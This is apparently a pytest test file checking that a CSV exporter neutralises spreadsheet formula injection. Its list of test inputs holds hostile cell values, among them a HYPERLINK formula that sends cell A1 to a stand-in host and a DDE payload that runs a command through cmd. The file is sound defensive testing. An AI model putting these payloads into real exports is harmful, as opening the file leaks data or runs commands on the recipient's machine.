"""CSV cells that a spreadsheet would run are made text; everything else stays as it is."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from skitter.sinks.csv_table import CsvTable, cell, escape_formula

RUN = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "\t=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    '"=1',
    ' " =1',
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    '=HYPERLINK("http://x.example/?"&A1)',
    "=cmd|' /C calc'!A0",
]
STAY = ["", "a=1", "1", "1-2", "e@x.example", "'=1", "(-1)", " text", "{}", "[-1]", "Ünï"]


@pytest.mark.parametrize("text", RUN)
def test_a_formula_becomes_text(text):
    assert escape_formula(text) == "'" + text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", STAY)
def test_other_text_stays(text):
    assert escape_formula(text) == text


@pytest.mark.parametrize("number", [-1, 0, 12, -1.5, 1e300])
def test_numbers_stay_numbers(number):
    assert cell(number) == number
    assert type(cell(number)) is type(number)


@given(st.lists(st.dictionaries(st.text(max_size=8), st.text() | st.integers() | st.none()), max_size=8))
def test_no_cell_of_a_table_starts_a_formula(records):
    lines = [msgspec.json.encode(record) + b"\n" for record in records]
    out = io.BytesIO()
    CsvTable().render(lambda: iter(lines), out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode(), newline=""), strict=True))
    fields = list(dict.fromkeys(name for record in records for name in record))
    if not fields:
        return
    assert rows == [
        [escape_formula(name) for name in fields],
        *([str(cell(record.get(name))) for name in fields] for record in records),
    ]
    numbers = {str(value) for record in records for value in record.values() if isinstance(value, int)}
    for row in rows:
        for text in row:
            assert text in numbers or not text.lstrip(' \t\r\n"').startswith(("=", "+", "-", "@"))
